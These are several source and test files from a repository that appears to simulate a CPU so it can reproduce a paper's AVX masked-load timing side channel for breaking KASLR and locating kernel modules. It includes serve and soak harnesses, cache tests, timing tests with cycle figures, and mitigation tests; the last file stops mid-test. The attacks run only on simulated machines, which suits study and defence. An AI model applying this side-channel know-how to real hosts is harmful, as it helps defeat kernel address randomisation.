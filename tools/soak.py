#!/usr/bin/env python
"""Sustained-load soak for `repro serve` (CI's soak-smoke job).

A thin wrapper over :mod:`repro.serve.soak` -- see that module for the
full design.  In one line: two load phases (multi-tenant floods at
unequal weights, a trickle tenant, a slow reader, client churn
throughout) around a mid-soak SIGTERM drain, with a plan resuming
across the restart and a fault profile riding a second plan; then the
fairness, typed-refusal, zero-orphan, slow-reader and determinism
assertions, plus a sharded-campaign scale smoke at noop unit cost.

Run locally:

    python tools/soak.py                       # ~60s CI shape
    python tools/soak.py --duration 120 --units 100000   # the full soak

Exit 0 on success; on failure, exit 1 with the partial report on
stdout so CI logs show which assertion broke and the numbers it broke
on.
"""

import argparse
import json
import pathlib
import sys
import tempfile

REPO = pathlib.Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "src"))

from repro.serve.soak import SoakError, run_soak  # noqa: E402


def main(argv=None):
    parser = argparse.ArgumentParser(
        description="sustained-load soak harness for repro serve")
    parser.add_argument("--dir", default=None, metavar="DIR",
                        help="scratch directory (default: a tempdir)")
    parser.add_argument("--duration", type=float, default=24.0,
                        help="total load-window seconds across both "
                             "phases (default 24)")
    parser.add_argument("--shards", type=int, default=4)
    parser.add_argument("--jobs", type=int, default=4)
    parser.add_argument("--seed", type=int, default=9)
    parser.add_argument("--plan-units", type=int, default=48,
                        help="units in the drain/resume determinism plan")
    parser.add_argument("--units", type=int, default=2000,
                        help="sharded-campaign scale smoke size "
                             "(0 skips it; the full soak uses 100000)")
    parser.add_argument("--spin", type=int, default=2000,
                        help="noop unit cost knob")
    parser.add_argument("--fault-profile", default="default")
    parser.add_argument("--fairness-ratio", type=float, default=3.0,
                        help="bound on weight-normalized flood "
                             "throughput max/min")
    parser.add_argument("--trickle-p99-ms", type=float, default=5000.0,
                        help="bound on the trickle tenant's p99 "
                             "scheduler wait")
    parser.add_argument("--out", default=None, metavar="REPORT.JSON",
                        help="write the full report here")
    args = parser.parse_args(argv)

    root = args.dir or tempfile.mkdtemp(prefix="repro-soak-")
    try:
        report = run_soak(
            root, duration_s=args.duration, shards=args.shards,
            jobs=args.jobs, seed=args.seed, plan_units=args.plan_units,
            campaign_units=args.units, spin=args.spin,
            fault_profile=args.fault_profile,
            fairness_ratio_max=args.fairness_ratio,
            trickle_p99_ms=args.trickle_p99_ms,
        )
    except SoakError as error:
        print("SOAK FAILED: {}".format(error))
        if error.report:
            print(json.dumps(error.report, indent=2, sort_keys=True,
                             default=str))
        return 1
    if args.out:
        pathlib.Path(args.out).write_text(
            json.dumps(report, indent=2, sort_keys=True))
        print("report written to {}".format(args.out))
    print("SOAK PASSED")
    return 0


if __name__ == "__main__":
    sys.exit(main())
