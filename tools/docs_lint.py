#!/usr/bin/env python
"""Docs lint: the module map must be complete, intra-doc links alive.

Three checks, all cheap enough for every CI run:

* **module-map completeness** -- every module file under ``src/repro/``
  (``__init__.py`` / ``__main__.py`` excepted; they re-export and
  dispatch only) must be named, by its ``repro/...`` path, in
  ``docs/architecture.md``.  Adding a module without documenting where
  it sits in the stack fails the build.
* **dead intra-doc links** -- every relative markdown link in
  ``README.md`` and ``docs/*.md`` must resolve to an existing file
  (anchors are stripped; external ``http(s)``/``mailto`` links are not
  checked).
* **benchmark-contract coverage** -- every top-level section of every
  ``BENCH_*.json`` at the repo root must be referenced (by name) in
  ``docs/performance.md``, and the file itself must be named there.
  Adding a benchmark section without documenting its speed contract
  fails the build.

Exit status 0 when clean, 1 with one line per violation otherwise.
"""

import json
import pathlib
import re
import sys

REPO = pathlib.Path(__file__).resolve().parent.parent
SRC = REPO / "src"
ARCHITECTURE = REPO / "docs" / "architecture.md"
PERFORMANCE = REPO / "docs" / "performance.md"

#: module basenames exempt from the map (re-export / dispatch shims)
EXEMPT = {"__init__.py", "__main__.py"}

#: markdown inline links; deliberately simple -- the docs do not nest
#: brackets inside link text
_LINK = re.compile(r"\[[^\]]*\]\(([^)\s]+)\)")


def module_map_violations():
    """Modules under src/repro/ missing from docs/architecture.md."""
    text = ARCHITECTURE.read_text()
    missing = []
    for path in sorted(SRC.rglob("*.py")):
        if path.name in EXEMPT:
            continue
        name = path.relative_to(SRC).as_posix()
        if name not in text:
            missing.append(
                "docs/architecture.md: module map is missing {}".format(name)
            )
    return missing


def dead_link_violations():
    """Relative markdown links that resolve to nothing."""
    dead = []
    pages = [REPO / "README.md"] + sorted((REPO / "docs").glob("*.md"))
    for page in pages:
        for target in _LINK.findall(page.read_text()):
            if target.startswith(("http://", "https://", "mailto:", "#")):
                continue
            resolved = (page.parent / target.split("#", 1)[0]).resolve()
            if not resolved.exists():
                dead.append(
                    "{}: dead link -> {}".format(
                        page.relative_to(REPO), target
                    )
                )
    return dead


def bench_coverage_violations():
    """BENCH_*.json sections missing from docs/performance.md."""
    if not PERFORMANCE.exists():
        return ["docs/performance.md: missing (benchmark contracts "
                "are documented there)"]
    text = PERFORMANCE.read_text()
    missing = []
    for bench in sorted(REPO.glob("BENCH_*.json")):
        if bench.name not in text:
            missing.append(
                "docs/performance.md: does not mention {}".format(bench.name)
            )
        try:
            sections = json.loads(bench.read_text())
        except ValueError:
            missing.append("{}: not valid JSON".format(bench.name))
            continue
        for key in sections:
            if not re.search(r"\b{}\b".format(re.escape(key)), text):
                missing.append(
                    "docs/performance.md: {} section `{}` has no "
                    "documented contract".format(bench.name, key)
                )
    return missing


def main():
    violations = (module_map_violations() + dead_link_violations()
                  + bench_coverage_violations())
    for violation in violations:
        print(violation)
    if violations:
        print("docs lint: {} violation(s)".format(len(violations)))
        return 1
    print("docs lint: OK")
    return 0


if __name__ == "__main__":
    sys.exit(main())
