#!/usr/bin/env python
"""End-to-end smoke test for `repro serve` (CI's serve-smoke job).

One script, four phases, real processes and real sockets throughout:

* **setup** -- a 24-unit plan directory and a tenant quota config with
  three tenants: `alice` (well-behaved), `bob` (slow reader: submits
  and never reads its stream), `carol` (quota of one in-flight
  request, hammered by six concurrent connections).
* **load** -- start a 4-shard server, fire 50 concurrent submissions
  from the three tenants, submit a campaign plan, SIGTERM the server
  while the plan is streaming, and require a clean drain: exit code 0,
  zero orphan processes in the server's process group, a typed
  outcome for every well-behaved request, at least one typed quota
  rejection for carol, and a persisted result for every submission
  bob abandoned.
* **finish** -- restart the server on the same state directory and
  resubmit the same plan id: the journal left by the drain must
  *resume*, not re-run, and `repro drain` must shut the server down
  cleanly again.
* **verify** -- the served plan store must equal an offline
  `ShardedCampaignRunner` store for the same directory, shards and
  seed, modulo `generated_at` / `wall_elapsed_s`, compared by sha256.

Run locally:  python tools/serve_smoke.py
"""

import hashlib
import json
import os
import pathlib
import shutil
import signal
import subprocess
import sys
import threading
import time

REPO = pathlib.Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "src"))

from repro.campaign import ShardedCampaignRunner  # noqa: E402
from repro.serve import ServeClient  # noqa: E402

TMP = pathlib.Path(os.environ.get("SERVE_SMOKE_DIR", "/tmp/serve-smoke"))
SOCKET = TMP / "serve.sock"
STATE = TMP / "state"
PLAN_DIR = TMP / "plan"
TENANTS_JSON = TMP / "tenants.json"

SHARDS = 4
JOBS = 4
SEED = 9
PLAN_UNITS = 24
BOB_SUBMITS = 12


def scenario(name, seed, trials=1):
    return {
        "name": name,
        "machine": {"os": "linux", "cpu": "i5-12400F", "seed": seed},
        "attack": {"kind": "kaslr", "params": {"trials": trials}},
        "expect": {"correct": True},
    }


def setup():
    if TMP.exists():
        shutil.rmtree(TMP)
    PLAN_DIR.mkdir(parents=True)
    for index in range(PLAN_UNITS):
        name = "unit-{:02d}".format(index)
        (PLAN_DIR / (name + ".json")).write_text(
            json.dumps(scenario(name, 1000 + index, trials=3))
        )
    TENANTS_JSON.write_text(json.dumps({
        "alice": {"max_requests": 8, "max_units": 256},
        "bob": {"max_requests": 16, "max_units": 64},
        "carol": {"max_requests": 1, "max_units": 8},
    }))
    print("setup: {} plan units, 3 tenants".format(PLAN_UNITS))


def start_server(ready_name):
    ready = TMP / ready_name
    proc = subprocess.Popen(
        [sys.executable, "-m", "repro", "serve",
         "--socket", str(SOCKET), "--state", str(STATE),
         "--shards", str(SHARDS), "--jobs", str(JOBS),
         "--seed", str(SEED), "--max-queue", "512",
         "--watchdog", "120",
         "--tenants", str(TENANTS_JSON), "--ready-file", str(ready)],
        env=dict(os.environ, PYTHONPATH=str(REPO / "src")),
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    deadline = time.time() + 60
    while not ready.exists():
        if proc.poll() is not None:
            sys.exit("server died on startup:\n"
                     + proc.stdout.read().decode())
        if time.time() > deadline:
            sys.exit("server never became ready")
        time.sleep(0.05)
    return proc


def wait_clean_exit(proc, what):
    code = proc.wait(timeout=180)
    output = proc.stdout.read().decode()
    if code != 0:
        sys.exit("{}: server exited {} (want 0):\n{}".format(
            what, code, output))
    # a graceful drain reaps every worker: nothing may survive in the
    # server's process group
    deadline = time.time() + 20
    while time.time() < deadline:
        try:
            os.killpg(proc.pid, 0)
        except ProcessLookupError:
            print("{}: clean exit 0, zero orphans".format(what))
            return
        time.sleep(0.2)
    os.killpg(proc.pid, signal.SIGKILL)
    sys.exit("{}: orphan processes survived the drain".format(what))


def load_phase(proc):
    outcomes = []
    lock = threading.Lock()

    def record(tenant, reply):
        with lock:
            outcomes.append((tenant, reply))

    def alice_load(rank):
        with ServeClient(str(SOCKET), timeout_s=120).connect("alice") as c:
            for index in range(5):
                rid = "a{}-{}".format(rank, index)
                spec = scenario(rid, 10 * rank + index)
                record("alice", c.submit(rid, scenario=spec))

    def carol_load(rank):
        with ServeClient(str(SOCKET), timeout_s=120).connect("carol") as c:
            for index in range(3):
                rid = "c{}-{}".format(rank, index)
                spec = scenario(rid, 50 * rank + index)
                record("carol", c.submit(rid, scenario=spec))

    def bob_load(rank):
        # the slow reader: submit, read nothing, walk away.  The
        # server must drop the stream, not the computation.
        client = ServeClient(str(SOCKET), timeout_s=120).connect("bob")
        rid = "b{}".format(rank)
        client.send({"type": "submit", "id": rid,
                     "scenario": scenario(rid, 900 + rank)})
        time.sleep(1.0)
        client.sock.close()

    threads = (
        [threading.Thread(target=alice_load, args=(r,)) for r in range(4)]
        + [threading.Thread(target=carol_load, args=(r,)) for r in range(6)]
        + [threading.Thread(target=bob_load, args=(r,))
           for r in range(BOB_SUBMITS)]
    )
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    alice = [r for t, r in outcomes if t == "alice"]
    carol = [r for t, r in outcomes if t == "carol"]
    assert len(alice) == 20 and len(carol) == 18, (len(alice), len(carol))
    for reply in alice:
        assert reply["type"] == "verdict" and reply["status"] == "done", reply
    rejected = [r for r in carol if r["type"] == "rejected"]
    for reply in carol:
        assert reply["type"] in ("verdict", "rejected"), reply
    assert rejected, "carol was never rejected under 6x quota pressure"
    for reply in rejected:
        assert reply["error"] == "QuotaExceeded" and reply["quota"], reply
    print("load: 50 submissions, alice 20/20 done, carol {} typed "
          "rejections".format(len(rejected)))

    # the plan, then SIGTERM while its verdict stream is in flight
    planner = ServeClient(str(SOCKET), timeout_s=120).connect("alice")
    reply = planner.submit(
        "plan-1",
        plan={"directory": str(PLAN_DIR), "shards": SHARDS, "seed": SEED},
        wait=False,
    )
    assert reply["type"] == "accepted", reply
    # unit-finish records land in the shard journals; the coordinator
    # journal holds campaign-start / steal / campaign-finish only
    deadline = time.time() + 120
    while True:
        journals = sorted((STATE / "plans").glob("alice.plan-1*.jsonl"))
        if any(b"unit-finish" in j.read_bytes() for j in journals):
            break
        if time.time() > deadline:
            sys.exit("plan never started finishing units")
        time.sleep(0.02)
    os.kill(proc.pid, signal.SIGTERM)
    wait_clean_exit(proc, "load")
    planner.sock.close()

    # every submission bob abandoned still ran and persisted
    bob_results = sorted((STATE / "results").glob("bob.b*.json"))
    assert len(bob_results) == BOB_SUBMITS, \
        "want {} persisted bob results, found {}".format(
            BOB_SUBMITS, len(bob_results))
    print("load: all {} slow-reader results persisted".format(BOB_SUBMITS))


def finish_phase():
    proc = start_server("ready-2")
    with ServeClient(str(SOCKET), timeout_s=300).connect("alice") as client:
        verdict = client.submit(
            "plan-1",
            plan={"directory": str(PLAN_DIR), "shards": SHARDS,
                  "seed": SEED},
        )
    assert verdict["type"] == "verdict" and verdict["status"] == "done", \
        verdict
    assert verdict["ok"], verdict
    drain = subprocess.run(
        [sys.executable, "-m", "repro", "drain", "--socket", str(SOCKET)],
        env=dict(os.environ, PYTHONPATH=str(REPO / "src")),
    )
    assert drain.returncode == 0, drain.returncode
    wait_clean_exit(proc, "finish")
    print("finish: plan resumed to done after restart")
    return pathlib.Path(verdict["store"])


def digest(store):
    store = dict(store)
    store.pop("generated_at")
    store.pop("wall_elapsed_s")
    blob = json.dumps(store, sort_keys=True).encode()
    return hashlib.sha256(blob).hexdigest()


def verify_phase(store_path):
    offline = ShardedCampaignRunner(
        TMP / "offline.jsonl", directory=str(PLAN_DIR),
        shards=SHARDS, jobs=JOBS, seed=SEED, watchdog_s=120.0,
    ).run()
    assert offline.ok, offline.summary
    served = json.loads(store_path.read_text())
    a, b = digest(served), digest(offline.store)
    assert a == b, "served {} != offline {}".format(a, b)
    print("verify: served and offline stores sha256-identical:", a)
    print(json.dumps(served["summary"], sort_keys=True))


def main():
    setup()
    proc = start_server("ready-1")
    load_phase(proc)
    store_path = finish_phase()
    verify_phase(store_path)
    print("serve smoke: OK")


if __name__ == "__main__":
    main()
