"""Paging-structure caches and the paging-line cache."""

from repro.mmu.psc import PagingLineCache, PagingStructureCache


class TestPagingStructureCache:
    def test_empty_has_no_hits(self):
        psc = PagingStructureCache()
        assert psc.deepest_hit((1, 2, 3, 4)) is None

    def test_fill_and_hit_each_level(self):
        psc = PagingStructureCache()
        indices = (10, 20, 30, 40)
        psc.fill(indices, 0, node_id=100)
        assert psc.deepest_hit(indices) == 0
        psc.fill(indices, 1, node_id=101)
        assert psc.deepest_hit(indices) == 1
        psc.fill(indices, 2, node_id=102)
        assert psc.deepest_hit(indices) == 2

    def test_pt_level_never_cached(self):
        psc = PagingStructureCache()
        psc.fill((1, 2, 3, 4), 3, node_id=50)
        assert psc.deepest_hit((1, 2, 3, 4)) is None

    def test_key_is_prefix(self):
        psc = PagingStructureCache()
        psc.fill((1, 2, 3, 4), 2, node_id=7)
        # same PML4/PDPT/PD prefix, different PT index: still a PDE hit
        assert psc.deepest_hit((1, 2, 3, 99)) == 2
        # different PD index: no PDE hit
        assert psc.deepest_hit((1, 2, 4, 4)) is None

    def test_lru_eviction(self):
        psc = PagingStructureCache(pde_entries=2)
        psc.fill((1, 1, 1, 0), 2, node_id=1)
        psc.fill((1, 1, 2, 0), 2, node_id=2)
        psc.fill((1, 1, 3, 0), 2, node_id=3)  # evicts (1,1,1)
        assert psc.deepest_hit((1, 1, 1, 0)) is None
        assert psc.deepest_hit((1, 1, 3, 0)) == 2

    def test_lru_refresh_on_hit(self):
        psc = PagingStructureCache(pde_entries=2)
        psc.fill((1, 1, 1, 0), 2, node_id=1)
        psc.fill((1, 1, 2, 0), 2, node_id=2)
        psc.deepest_hit((1, 1, 1, 0))          # refresh entry 1
        psc.fill((1, 1, 3, 0), 2, node_id=3)   # should evict entry 2
        assert psc.deepest_hit((1, 1, 1, 0)) == 2
        assert psc.deepest_hit((1, 1, 2, 0)) is None

    def test_invalidate_address(self):
        psc = PagingStructureCache()
        indices = (5, 6, 7, 8)
        for level in (0, 1, 2):
            psc.fill(indices, level, node_id=level)
        psc.invalidate_address(indices)
        assert psc.deepest_hit(indices) is None

    def test_invalidate_spares_other_addresses(self):
        psc = PagingStructureCache()
        psc.fill((5, 6, 7, 0), 2, node_id=1)
        psc.fill((5, 6, 8, 0), 2, node_id=2)
        psc.invalidate_address((5, 6, 7, 0))
        assert psc.deepest_hit((5, 6, 8, 0)) == 2

    def test_flush(self):
        psc = PagingStructureCache()
        psc.fill((1, 2, 3, 0), 2, node_id=1)
        psc.flush()
        assert psc.occupancy() == {0: 0, 1: 0, 2: 0}


class TestPagingLineCache:
    def test_first_access_cold(self):
        cache = PagingLineCache()
        assert cache.access(1, 0) is False

    def test_second_access_hot(self):
        cache = PagingLineCache()
        cache.access(1, 0)
        assert cache.access(1, 0) is True

    def test_line_granularity_covers_eight_slots(self):
        cache = PagingLineCache()
        cache.access(1, 8)
        assert cache.access(1, 15) is True   # same 64-byte line
        assert cache.access(1, 16) is False  # next line

    def test_different_structures_do_not_alias(self):
        cache = PagingLineCache()
        cache.access(1, 0)
        assert cache.access(2, 0) is False

    def test_capacity_eviction(self):
        cache = PagingLineCache(capacity_lines=2)
        cache.access(1, 0)
        cache.access(2, 0)
        cache.access(3, 0)
        assert cache.is_hot(3, 0)
        assert not cache.is_hot(1, 0)

    def test_flush(self):
        cache = PagingLineCache()
        cache.access(1, 0)
        cache.flush()
        assert not cache.is_hot(1, 0)
        assert len(cache) == 0
