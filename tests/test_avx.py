"""AVX masked load/store semantics: P1 fault suppression, assists, timing."""

import pytest

from repro.cpu.avx import ZERO_MASK, make_mask
from repro.cpu.core import Core
from repro.cpu.models import get_cpu_model
from repro.errors import PageFault
from repro.mmu.address import PAGE_SIZE
from repro.mmu.flags import PageFlags, flags_from_prot
from repro.mmu.pagetable import AddressSpace

USER_RW = flags_from_prot(read=True, write=True)
USER_RO = flags_from_prot(read=True)
USER_RX = flags_from_prot(read=True, execute=True)
KERNEL = PageFlags.PRESENT


@pytest.fixture
def setup():
    """A core with a mapped/unmapped page pair (the paper's Figure 1)."""
    space = AddressSpace()
    mapped = 0x10_0000
    space.map_range(mapped, PAGE_SIZE, USER_RW)
    unmapped = mapped + PAGE_SIZE
    core = Core(get_cpu_model("i7-1065G7"), seed=0)
    core.set_address_space(space)
    return core, space, mapped, unmapped


class TestMaskConstruction:
    def test_zero_mask(self):
        assert make_mask() == (False,) * 8
        assert ZERO_MASK == make_mask()

    def test_active_indices(self):
        mask = make_mask([0, 7])
        assert mask[0] and mask[7]
        assert not any(mask[1:7])

    def test_64bit_elements(self):
        assert len(make_mask(element_size=8)) == 4

    def test_out_of_range_rejected(self):
        with pytest.raises(ValueError):
            make_mask([8])
        with pytest.raises(ValueError):
            make_mask(element_size=16)


class TestFaultSuppression:
    """The four quadrants of the paper's Figure 1."""

    def test_A_load_active_element_on_unmapped_faults(self, setup):
        core, __, mapped, unmapped = setup
        # vector starts near page end; element 4.. fall on the unmapped page
        va = mapped + PAGE_SIZE - 16
        with pytest.raises(PageFault) as info:
            core.masked_load(va, make_mask([7]))
        assert info.value.present is False
        assert info.value.write is False

    def test_B_store_active_element_on_unmapped_faults(self, setup):
        core, __, mapped, unmapped = setup
        va = mapped + PAGE_SIZE - 16
        with pytest.raises(PageFault) as info:
            core.masked_store(va, make_mask([7]))
        assert info.value.write is True

    def test_C_load_masked_out_elements_suppressed(self, setup):
        core, __, mapped, unmapped = setup
        va = mapped + PAGE_SIZE - 16
        result = core.masked_load(va, make_mask([0]))  # active on mapped side
        assert result is not None

    def test_D_store_masked_out_elements_suppressed(self, setup):
        core, __, mapped, unmapped = setup
        va = mapped + PAGE_SIZE - 16
        result = core.masked_store(va, make_mask([0]))
        assert result is not None

    def test_zero_mask_never_faults_on_unmapped(self, setup):
        core, __, __, unmapped = setup
        result = core.masked_load(unmapped, ZERO_MASK)
        assert result.assist

    def test_zero_mask_never_faults_on_kernel_page(self, setup):
        core, space, __, __ = setup
        kva = 0xFFFF_FFFF_8000_0000
        space.map_range(kva, PAGE_SIZE, KERNEL)
        result = core.masked_load(kva, ZERO_MASK)
        assert result.assist

    def test_active_access_to_kernel_page_faults(self, setup):
        core, space, __, __ = setup
        kva = 0xFFFF_FFFF_8000_0000
        space.map_range(kva, PAGE_SIZE, KERNEL)
        with pytest.raises(PageFault) as info:
            core.masked_load(kva, make_mask([0]))
        assert info.value.present is True

    def test_store_to_readonly_active_faults(self, setup):
        core, space, __, __ = setup
        ro = 0x20_0000
        space.map_range(ro, PAGE_SIZE, USER_RO)
        with pytest.raises(PageFault):
            core.masked_store(ro, make_mask([0]))

    def test_page_fault_counter(self, setup):
        core, __, __, unmapped = setup
        with pytest.raises(PageFault):
            core.masked_load(unmapped, make_mask([0]))
        assert core.perf.read("PAGE_FAULTS") == 1


class TestAssists:
    def test_user_mapped_load_no_assist(self, setup):
        core, __, mapped, __ = setup
        result = core.masked_load(mapped)
        assert not result.assist
        assert core.perf.read("ASSISTS.ANY") == 0

    def test_unmapped_load_assists(self, setup):
        core, __, __, unmapped = setup
        result = core.masked_load(unmapped)
        assert result.assist_kind == "load-fault"

    def test_kernel_load_assists(self, setup):
        core, space, __, __ = setup
        kva = 0xFFFF_FFFF_8000_0000
        space.map_range(kva, PAGE_SIZE, KERNEL)
        result = core.masked_load(kva)
        assert result.assist_kind == "load-inaccessible"

    def test_privileged_kernel_load_no_assist(self, setup):
        core, space, __, __ = setup
        kva = 0xFFFF_FFFF_8000_0000
        space.map_range(kva, PAGE_SIZE, KERNEL)
        result = core.masked_load(kva, privileged=True)
        assert not result.assist

    def test_store_to_clean_rw_takes_dirty_assist(self, setup):
        core, __, mapped, __ = setup
        result = core.masked_store(mapped)
        assert result.assist_kind == "dirty"

    def test_store_to_dirty_rw_takes_no_assist(self, setup):
        core, space, mapped, __ = setup
        space.page_table.set_flag(mapped, PageFlags.DIRTY)
        result = core.masked_store(mapped)
        assert not result.assist

    def test_store_to_readonly_takes_perm_assist(self, setup):
        core, space, __, __ = setup
        ro = 0x20_0000
        space.map_range(ro, PAGE_SIZE, USER_RO)
        result = core.masked_store(ro)
        assert result.assist_kind == "store-perm"

    def test_store_to_unmapped_takes_fault_assist(self, setup):
        core, __, __, unmapped = setup
        result = core.masked_store(unmapped)
        assert result.assist_kind == "store-fault"

    def test_assists_counted(self, setup):
        core, __, __, unmapped = setup
        core.masked_load(unmapped)
        core.masked_load(unmapped)
        assert core.perf.read("ASSISTS.ANY") == 2


class TestTiming:
    def test_user_mapped_load_is_13_cycles(self, setup):
        """The paper's Figure 2 anchor on Ice Lake."""
        core, __, mapped, __ = setup
        core.masked_load(mapped)                    # TLB fill
        result = core.masked_load(mapped)
        assert result.cycles == 13

    def test_kernel_mapped_load_is_92_cycles(self, setup):
        core, space, __, __ = setup
        kva = 0xFFFF_FFFF_8000_0000
        space.map_range(kva, PAGE_SIZE, KERNEL)
        core.masked_load(kva)
        result = core.masked_load(kva)
        assert result.cycles == 92

    def test_kernel_mapped_store_is_76_cycles(self, setup):
        """P6: masked store 16 cycles faster than load on KERNEL-M."""
        core, space, __, __ = setup
        kva = 0xFFFF_FFFF_8000_0000
        space.map_range(kva, PAGE_SIZE, KERNEL)
        core.masked_load(kva)
        result = core.masked_store(kva)
        assert result.cycles == 76

    def test_unmapped_slower_than_kernel_mapped(self, setup):
        """P2: mapped vs unmapped second accesses differ."""
        core, space, __, __ = setup
        kva = 0xFFFF_FFFF_8000_0000
        space.map_range(kva, PAGE_SIZE, KERNEL)
        unmapped_k = kva + PAGE_SIZE
        core.masked_load(kva)
        core.masked_load(unmapped_k)
        mapped_2nd = core.masked_load(kva).cycles
        unmapped_2nd = core.masked_load(unmapped_k).cycles
        assert unmapped_2nd > mapped_2nd

    def test_tlb_hit_faster_than_walk(self, setup):
        core, __, mapped, __ = setup
        first = core.masked_load(mapped).cycles
        second = core.masked_load(mapped).cycles
        assert second < first

    def test_amd_kernel_probe_never_tlb_hits(self):
        """Zen 3: supervisor translations are not cached for user probes."""
        space = AddressSpace()
        kva = 0xFFFF_FFFF_8000_0000
        space.map_range(kva, PAGE_SIZE, KERNEL)
        core = Core(get_cpu_model("ryzen5-5600X"), seed=0)
        core.set_address_space(space)
        first = core.masked_load(kva)
        second = core.masked_load(kva)
        assert first.walks == 1 and second.walks == 1
        assert second.tlb_level is None

    def test_intel_kernel_probe_fills_tlb(self, setup):
        core, space, __, __ = setup
        kva = 0xFFFF_FFFF_8000_0000
        space.map_range(kva, PAGE_SIZE, KERNEL)
        core.masked_load(kva)
        second = core.masked_load(kva)
        assert second.tlb_level == "L1"
        assert second.walks == 0


class TestDataMovement:
    def test_load_reads_active_elements(self, setup):
        core, space, mapped, __ = setup
        space.memory.write(
            space.translate(mapped).physical_address, b"\x11\x22\x33\x44"
        )
        result = core.masked_load(mapped, make_mask([0]))
        assert result.value[:4] == b"\x11\x22\x33\x44"
        assert result.value[4:] == b"\x00" * 28

    def test_store_writes_active_elements(self, setup):
        core, space, mapped, __ = setup
        data = bytes(range(32))
        core.masked_store(mapped, make_mask([1]), data=data)
        pa = space.translate(mapped).physical_address
        assert space.memory.read(pa + 4, 4) == data[4:8]
        assert space.memory.read(pa, 4) == b"\x00" * 4

    def test_active_store_sets_dirty(self, setup):
        core, space, mapped, __ = setup
        core.masked_store(mapped, make_mask([0]))
        assert space.translate(mapped).flags.dirty

    def test_zero_mask_store_leaves_dirty_clear(self, setup):
        """Crucial for the threshold calibration: probing never dirties."""
        core, space, mapped, __ = setup
        for _ in range(10):
            core.masked_store(mapped, ZERO_MASK)
        assert not space.translate(mapped).flags.dirty

    def test_active_load_sets_accessed(self, setup):
        core, space, mapped, __ = setup
        core.masked_load(mapped, make_mask([0]))
        assert space.translate(mapped).flags.accessed

    def test_dirty_visible_to_next_store_via_tlb(self, setup):
        core, __, mapped, __ = setup
        core.masked_store(mapped, make_mask([0]))   # sets D
        result = core.masked_store(mapped, ZERO_MASK)
        assert not result.assist


class TestMitigation:
    def test_zero_mask_nop_flat_timing(self, setup):
        core, space, mapped, __ = setup
        core.avx.zero_mask_nop = True
        kva = 0xFFFF_FFFF_8000_0000
        space.map_range(kva, PAGE_SIZE, KERNEL)
        t_user = core.masked_load(mapped).cycles
        t_kernel = core.masked_load(kva).cycles
        t_unmapped = core.masked_load(mapped + PAGE_SIZE).cycles
        assert t_user == t_kernel == t_unmapped

    def test_zero_mask_nop_no_tlb_side_effects(self, setup):
        core, __, mapped, __ = setup
        core.avx.zero_mask_nop = True
        core.masked_load(mapped)
        assert not core.tlb.holds(mapped)

    def test_active_masks_still_work_under_mitigation(self, setup):
        core, __, mapped, __ = setup
        core.avx.zero_mask_nop = True
        result = core.masked_load(mapped, make_mask([0]))
        assert result.value is not None
