"""The columnar engine, cross-validated against batched and per-op paths.

The contract under test (see :mod:`repro.cpu.columnar`):

* **bit-exactness vs batched** -- the columnar path produces the *same
  bytes*: measured matrix, simulated clock, performance counters, TLB
  hit/miss counters *and per-set bucket order*, walker state, and chaos
  schedule digest all equal the batched engine's, for every target
  shape (2 MiB kernel slots, 4 KiB module slots, mapped userspace,
  unmapped ranges), op, reduce mode, CPU model, and chaos profile;
* **outcome-equality vs per-op** -- the per-op simulator remains the
  oracle: classification outcomes, clock, perf counters and TLB stats
  agree (noise values differ only because the vectorized RNG consumes
  the stream in a different order);
* **graceful fallback** -- windows the compiler cannot prove safe
  (duplicate pages, already-cached translations) run through the per-op
  row loop *inside* the same sweep and stay bit-exact; whole-sweep
  delegation triggers for tracing and zero-mask-NOP hardware.
"""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.attacks.kaslr_break import break_kaslr, break_kaslr_intel
from repro.attacks.module_detect import detect_modules
from repro.attacks.primitives import double_probe_load
from repro.attacks.supervisor import supervise
from repro.attacks.userspace import find_user_code_base
from repro.cpu import columnar
from repro.errors import AddressError
from repro.machine import Machine
from repro.os.linux import layout

CPUS = ["i5-12400F", "i7-1065G7", "ryzen5-5600X"]


def _tlb_image(tlb):
    """Full TLB replacement state: per-set bucket order, entry fields."""
    image = []
    for name, array in list(tlb.l1.items()) + [("stlb", tlb.stlb)]:
        buckets = [
            [(e.vpn, e.pfn, int(e.flags), e.page_size, e.is_global, e.asid)
             for e in bucket]
            for bucket in array._sets
        ]
        image.append((str(name), array.hits, array.misses, buckets))
    return image


def _machine_state(machine):
    core = machine.core
    return (
        core.clock.cycles,
        core.perf.snapshot(),
        core.walker.completed_walks,
        core.tlb.stats(),
        _tlb_image(core.tlb),
    )


# -- target shapes ------------------------------------------------------------

def _base_vas(machine):
    """Fig. 4: the 512 2 MiB-aligned KASLR slots."""
    return [layout.kernel_base_of_slot(s)
            for s in range(layout.KERNEL_TEXT_SLOTS)]


def _module_vas(machine):
    """Table I: a 4 KiB-grained module-region scan (subset for speed)."""
    return [layout.MODULE_START + i * 4096 for i in range(2048)]


def _user_vas(machine):
    """Userspace two-pass scan shape: mapped pages + unmapped tail."""
    base = machine.process.mmap(256)
    return ([base + i * 4096 for i in range(256)]
            + [base + (256 + 64 + i) * 4096 for i in range(256)])


TARGETS = {
    "base": (_base_vas, dict(rounds=4, op="load", warm=True, reduce="mean")),
    "modules": (_module_vas,
                dict(rounds=3, op="load", warm=False, reduce="min")),
    "userspace": (_user_vas,
                  dict(rounds=2, op="store", warm=False, reduce="min")),
}


def _run_pair(target, cpu, chaos=None, seed=42):
    """Same sweep on twin machines: batched vs columnar."""
    make_vas, kwargs = TARGETS[target]
    batched = Machine.linux(cpu=cpu, seed=seed, chaos=chaos)
    col = Machine.linux(cpu=cpu, seed=seed, chaos=chaos)
    vas = make_vas(batched)
    assert make_vas(col) == vas
    rb = batched.core.probe_sweep(vas, engine="batched", **kwargs)
    rc = col.core.probe_sweep(vas, engine="columnar", **kwargs)
    return batched, col, rb, rc


class TestBitExactVsBatched:
    """Columnar output and machine state equal the batched engine's."""

    @pytest.mark.parametrize("cpu", CPUS)
    @pytest.mark.parametrize("target", sorted(TARGETS))
    def test_quiet(self, cpu, target):
        batched, col, rb, rc = _run_pair(target, cpu)
        assert np.array_equal(rb, rc)
        assert _machine_state(batched) == _machine_state(col)
        assert columnar.last_info["mode"] == "columnar"
        assert columnar.last_info["fallback_rows"] == 0

    @pytest.mark.parametrize("cpu", CPUS)
